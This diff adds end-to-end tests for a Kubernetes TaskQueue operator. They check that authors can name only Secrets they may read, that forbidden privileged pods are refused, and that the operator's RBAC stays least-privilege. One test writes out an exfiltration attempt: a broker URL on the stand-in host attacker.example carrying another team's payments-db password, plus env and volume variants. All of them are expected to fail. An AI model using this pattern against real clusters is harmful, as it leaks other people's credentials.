@@ -1,0 +1,443 @@
+"""A TaskQueue never does more than its author may: names, ownership, privileges, Secrets,
+and the operator's own rights, on a real API server with the shipped admission policy."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import time
+
+import pytest
+from chart import CHART, KUBE_VERSION, helm_binary
+from kube import wait_for
+from pod_policy_cases import FORBIDDEN, SIDECAR
+from stalk_devenv.stack import API_EXTENSIONS, wait_for_admission_policy
+from taskqueues import taskqueue
+
+pytestmark = pytest.mark.e2e
+
+POLICY = "stalk-taskqueues"
+
+
+def ready_condition(cluster, namespace: str, name: str) -> dict | None:
+    status = cluster.get_json("tq", name, namespace=namespace).get("status") or {}
+    return next((c for c in status.get("conditions") or [] if c["type"] == "Ready"), None)
+
+
+def warnings(cluster, namespace: str, reason: str) -> list[str]:
+    listing = cluster.get_json(
+        "events",
+        "--field-selector",
+        f"involvedObject.kind=TaskQueue,reason={reason}",
+        namespace=namespace,
+    )
+    return [e["message"] for e in listing["items"]]
+
+
+def dry_run(cluster):
+    return lambda text: (
+        cluster.kubectl(
+            "create", "--dry-run=server", "-f", "-", input_text=text, check=False
+        ).stderr
+    )
+
+
+def test_a_63_character_name_and_odd_queue_names_work_end_to_end(
+    cluster, namespace, stalk_operator, redis_db
+):
+    stalk_operator()
+    name = "q" * 63
+    queues = ["emails.v2", "jobs:high", "team@eu"]
+    cluster.apply(
+        taskqueue(name, queues, scaling={"minReplicas": 0, "maxReplicas": 4}),
+        namespace=namespace,
+    )
+    wait_for(
+        lambda: (
+            cluster.kubectl("get", "deployment", name, namespace=namespace, check=False).returncode
+            == 0
+        ),
+        15,
+        "the Deployment of a 63-character TaskQueue",
+    )
+    client = redis_db.client()
+    for queue in queues:
+        client.lpush(queue, *[f"message-{i}" for i in range(3)])
+    wait_for(
+        lambda: cluster.get_json("deployment", name, namespace=namespace)["spec"]["replicas"] == 4,
+        15,
+        "scaled on 9 messages over queues named with dots, colons and @",
+    )
+    status = cluster.get_json("tq", name, namespace=namespace)["status"]
+    assert status["backlogByQueue"] == {queue: 3 for queue in queues}
+
+
+def test_a_foreign_deployment_is_never_written_and_its_removal_heals(
+    cluster, namespace, stalk_operator
+):
+    """Someone else's Deployment under the TaskQueue's name: a condition, one Event, no
+    write for a minute; deleting it lets the TaskQueue take the name by itself."""
+    cluster.kubectl(
+        "create",
+        "deployment",
+        "emails",
+        "--image=team/mailer:3",
+        "--replicas=2",
+        namespace=namespace,
+    )
+    before = cluster.get_json("deployment", "emails", namespace=namespace)
+    operator = stalk_operator()
+    cluster.apply(taskqueue("emails", ["email"]), namespace=namespace)
+    wait_for(
+        lambda: (
+            (ready_condition(cluster, namespace, "emails") or {}).get("reason")
+            == "DeploymentNotOwned"
+        ),
+        15,
+        "Ready=False, DeploymentNotOwned",
+    )
+    assert ready_condition(cluster, namespace, "emails")["status"] == "False"
+    wait_for(lambda: warnings(cluster, namespace, "DeploymentNotOwned"), 10, "a Warning Event")
+    time.sleep(60)
+    after = cluster.get_json("deployment", "emails", namespace=namespace)
+    assert after["metadata"]["resourceVersion"] == before["metadata"]["resourceVersion"]
+    assert (
+        after["spec"] == before["spec"]
+        and after["metadata"]["labels"] == before["metadata"]["labels"]
+    )
+    assert len(warnings(cluster, namespace, "DeploymentNotOwned")) == 1, "said once"
+    assert operator.log().count("is not Stalk's") <= 1, "logged once, not per retry"
+
+    cluster.kubectl("delete", "deployment", "emails", "--wait=true", namespace=namespace)
+    wait_for(
+        lambda: any(
+            ref["kind"] == "TaskQueue"
+            for ref in (
+                cluster.get_json("deployment", "emails", namespace=namespace)["metadata"].get(
+                    "ownerReferences"
+                )
+                or []
+            )
+        ),
+        20,
+        "the TaskQueue's own Deployment once the foreign one is gone",
+    )
+
+
+def test_with_the_admission_policy_removed_the_operator_still_refuses_forbidden_pods(
+    cluster, namespace, stalk_operator
+):
+    stalk_operator()
+    cluster.kubectl("delete", "validatingadmissionpolicybinding", POLICY)
+    try:
+        _, worker, messages = FORBIDDEN[-1]  # a privileged sidecar with a host port
+        wait_for(
+            lambda: (
+                cluster.apply(
+                    taskqueue("escalate", ["q"], worker=worker), namespace=namespace, check=False
+                ).returncode
+                == 0
+            ),
+            15,
+            "the API server to stop enforcing the policy",
+        )
+        wait_for(
+            lambda: (
+                (ready_condition(cluster, namespace, "escalate") or {}).get("reason")
+                == "PodNotAllowed"
+            ),
+            15,
+            "Ready=False, PodNotAllowed",
+        )
+        message = ready_condition(cluster, namespace, "escalate")["message"]
+        assert all(m in message for m in messages), message
+        assert warnings(cluster, namespace, "PodNotAllowed")
+        assert (
+            cluster.kubectl(
+                "get", "deployment", "escalate", namespace=namespace, check=False
+            ).returncode
+            != 0
+        ), "no Deployment was built"
+    finally:
+        for manifest in API_EXTENSIONS:
+            cluster.kubectl("apply", "-f", str(manifest))
+        wait_for_admission_policy(dry_run(cluster))
+
+
+def test_a_widened_namespace_gets_exactly_what_it_was_given(cluster, namespace, stalk_operator):
+    """The chart's taskQueuePolicy.namespaces, rendered into both enforcers."""
+    widening = {namespace: {"allow": ["ExtraContainers"]}}
+    rendered = subprocess.run(
+        [
+            helm_binary(),
+            "template",
+            "stalk",
+            str(CHART),
+            f"--kube-version={KUBE_VERSION}",
+            "--set-json",
+            f"taskQueuePolicy.namespaces={json.dumps(widening)}",
+            "--set",
+            "fullnameOverride=stalk",
+            "--show-only",
+            "templates/admission/taskqueue-policy.yaml",
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout
+    cluster.apply(rendered)
+    try:
+        stalk_operator(STALK_POD_POLICY=json.dumps(widening))
+        sidecar = {"podTemplate": {"containers": [SIDECAR]}}
+        wait_for(
+            lambda: (
+                cluster.apply(
+                    taskqueue("sidecar", ["q"], worker=sidecar), namespace=namespace, check=False
+                ).returncode
+                == 0
+            ),
+            15,
+            "a TaskQueue with a sidecar accepted in the widened namespace",
+        )
+        wait_for(
+            lambda: (
+                cluster.kubectl(
+                    "get", "deployment", "sidecar", namespace=namespace, check=False
+                ).returncode
+                == 0
+            ),
+            15,
+            "the operator building the pod with its sidecar",
+        )
+        containers = cluster.get_json("deployment", "sidecar", namespace=namespace)["spec"][
+            "template"
+        ]["spec"]["containers"]
+        assert [c["name"] for c in containers] == ["worker", "side"]
+        privileged = {
+            "podTemplate": {"containers": [{**SIDECAR, "securityContext": {"privileged": True}}]}
+        }
+        refused = cluster.apply(
+            taskqueue("privileged", ["q"], worker=privileged), namespace=namespace, check=False
+        )
+        assert "needs the Privileged allowance" in refused.stderr, "only what was given"
+        cluster.kubectl("create", "namespace", f"{namespace}-other")
+        elsewhere = cluster.apply(
+            taskqueue("sidecar", ["q"], worker=sidecar),
+            namespace=f"{namespace}-other",
+            check=False,
+        )
+        assert "needs the ExtraContainers allowance" in elsewhere.stderr, "only where given"
+    finally:
+        cluster.kubectl("delete", "namespace", f"{namespace}-other", "--wait=false", check=False)
+        for manifest in API_EXTENSIONS:
+            cluster.kubectl("apply", "-f", str(manifest))
+        wait_for_admission_policy(dry_run(cluster))
+
+
+def test_an_author_may_name_only_secrets_they_may_read(cluster, stalk_crds, namespace):
+    cluster.create_secret(namespace, "team-redis", password="p1")
+    cluster.create_secret(namespace, "payments-db", password="p2")
+    cluster.kubectl(
+        "create",
+        "role",
+        "taskqueue-author",
+        "--verb=get,list,watch,create,update,patch",
+        "--resource=taskqueues.stalk.dev",
+        namespace=namespace,
+    )
+    cluster.kubectl(
+        "create",
+        "role",
+        "read-team-redis",
+        "--verb=get",
+        "--resource=secrets",
+        "--resource-name=team-redis",
+        namespace=namespace,
+    )
+    for role in ("taskqueue-author", "read-team-redis"):
+        cluster.kubectl(
+            "create", "rolebinding", role, f"--role={role}", "--user=alice", namespace=namespace
+        )
+    as_alice = ("--as=alice",)
+
+    def apply_as_alice(name: str, spec: dict) -> subprocess.CompletedProcess[str]:
+        body = {
+            "apiVersion": "stalk.dev/v1alpha1",
+            "kind": "TaskQueue",
+            "metadata": {"name": name},
+            "spec": {"queues": ["q"], **spec},
+        }
+        return cluster.kubectl(
+            *as_alice,
+            "apply",
+            "-f",
+            "-",
+            input_text=json.dumps(body),
+            namespace=namespace,
+            check=False,
+        )
+
+    stolen = apply_as_alice(
+        "exfiltrate",
+        {
+            "broker": {
+                "url": "redis://attacker.example:6379/0",
+                "passwordSecretRef": {"name": "payments-db", "key": "password"},
+            }
+        },
+    )
+    assert stolen.returncode != 0
+    assert "references Secret payments-db, which you may not get" in stolen.stderr
+    through_env = apply_as_alice(
+        "env",
+        {
+            "worker": {
+                "env": [
+                    {
+                        "name": "DB",
+                        "valueFrom": {"secretKeyRef": {"name": "payments-db", "key": "password"}},
+                    }
+                ]
+            }
+        },
+    )
+    assert "references Secret payments-db, which you may not get" in through_env.stderr
+    through_volume = apply_as_alice(
+        "volume",
+        {
+            "worker": {
+                "podTemplate": {
+                    "volumes": [
+                        {
+                            "name": "s",
+                            "projected": {"sources": [{"secret": {"name": "payments-db"}}]},
+                        }
+                    ]
+                }
+            }
+        },
+    )
+    assert "references Secret payments-db, which you may not get" in through_volume.stderr
+    own = apply_as_alice(
+        "mine",
+        {
+            "broker": {
+                "url": "redis://team-redis:6379/0",
+                "passwordSecretRef": {"name": "team-redis", "key": "password"},
+            }
+        },
+    )
+    assert own.returncode == 0, own.stderr
+    plain = apply_as_alice("plain", {})
+    assert plain.returncode == 0, plain.stderr
+
+
+OPERATOR_RIGHTS = [
+    # (verb, resource, allowed): what the operator's ServiceAccount may do in a TaskQueue's
+    # namespace, as the shipped ClusterRoles grant it.
+    ("get", "taskqueues.stalk.dev", True),
+    ("list", "taskqueues.stalk.dev", True),
+    ("watch", "taskqueues.stalk.dev", True),
+    ("patch", "taskqueues.stalk.dev/status", True),
+    ("create", "taskqueues.stalk.dev", False),
+    ("update", "taskqueues.stalk.dev", False),
+    ("delete", "taskqueues.stalk.dev", False),
+    ("get", "deployments.apps", True),
+    ("list", "deployments.apps", True),
+    ("watch", "deployments.apps", True),
+    ("create", "deployments.apps", True),
+    ("patch", "deployments.apps", True),
+    ("update", "deployments.apps", False),
+    ("delete", "deployments.apps", False),
+    ("list", "pods", True),
+    ("patch", "pods", True),
+    ("get", "pods", False),
+    ("create", "pods", False),
+    ("delete", "pods", False),
+    ("create", "pods/exec", False),
+    ("get", "secrets", True),
+    ("list", "secrets", False),
+    ("watch", "secrets", False),
+    ("create", "secrets", False),
+    ("update", "secrets", False),
+    ("delete", "secrets", False),
+    ("get", "configmaps", False),
+    ("create", "events", True),
+    ("patch", "events", True),
+    ("delete", "events", False),
+    ("create", "serviceaccounts/token", False),
+    ("create", "rolebindings.rbac.authorization.k8s.io", False),
+    ("create", "validatingadmissionpolicybindings.admissionregistration.k8s.io", False),
+    ("delete", "validatingadmissionpolicybindings.admissionregistration.k8s.io", False),
+    ("impersonate", "serviceaccounts", False),
+]
+
+
+@pytest.fixture
+def operator_account(local_cluster, cluster, namespace):
+    from stalk_devenv.stack import grant_operator, revoke_operator
+
+    grant_operator(local_cluster, namespace)
+    yield f"system:serviceaccount:{namespace}:stalk-operator"
+    revoke_operator(local_cluster, namespace)
+
+
+def test_the_operator_may_do_exactly_what_it_needs(cluster, namespace, operator_account, capsys):
+    def allowed(verb: str, resource: str, *where: str) -> bool:
+        answer = cluster.kubectl(
+            "auth", "can-i", verb, resource, f"--as={operator_account}", *where, check=False
+        )
+        return answer.stdout.strip() == "yes"
+
+    matrix = [
+        (verb, resource, allowed(verb, resource, f"--namespace={namespace}"), expected)
+        for verb, resource, expected in OPERATOR_RIGHTS
+    ]
+    cluster_wide = [
+        ("create", "clusterrolebindings.rbac.authorization.k8s.io", False),
+        ("list", "secrets", False),  # in every namespace
+        ("update", "customresourcedefinitions.apiextensions.k8s.io", False),
+        ("delete", "namespaces", False),
+        ("get", "nodes", False),
+    ]
+    matrix += [
+        (verb, f"{resource} (cluster)", allowed(verb, resource, "--all-namespaces"), expected)
+        for verb, resource, expected in cluster_wide
+    ]
+    with capsys.disabled():
+        print("\nRBAC of the operator's ServiceAccount (verb x resource):")
+        for verb, resource, found, _ in matrix:
+            print(f"  {verb:12} {resource:68} {'allowed' if found else 'refused'}")
+    wrong = [(v, r, f) for v, r, f, expected in matrix if f != expected]
+    assert not wrong, f"rights differ from least privilege: {wrong}"
+
+
+def test_taskqueue_roles_aggregate_into_view_and_edit(cluster, stalk_crds, namespace):
+    from stalk_devenv.controlplane import REPO_ROOT
+
+    cluster.kubectl("apply", "-f", str(REPO_ROOT / "manifests" / "rbac" / "taskqueue-roles.yaml"))
+    for user, role in (("viewer", "view"), ("editor", "edit")):
+        cluster.kubectl(
+            "create",
+            "rolebinding",
+            user,
+            f"--clusterrole={role}",
+            f"--user={user}",
+            namespace=namespace,
+        )
+
+    def can(user: str, verb: str) -> bool:
+        answer = cluster.kubectl(
+            "auth",
+            "can-i",
+            verb,
+            "taskqueues.stalk.dev",
+            f"--as={user}",
+            f"--namespace={namespace}",
+            check=False,
+        )
+        return answer.stdout.strip() == "yes"
+
+    wait_for(lambda: can("editor", "create"), 10, "the editor role aggregated into edit")
+    assert can("viewer", "list") and not can("viewer", "create")
+    assert can("editor", "delete")
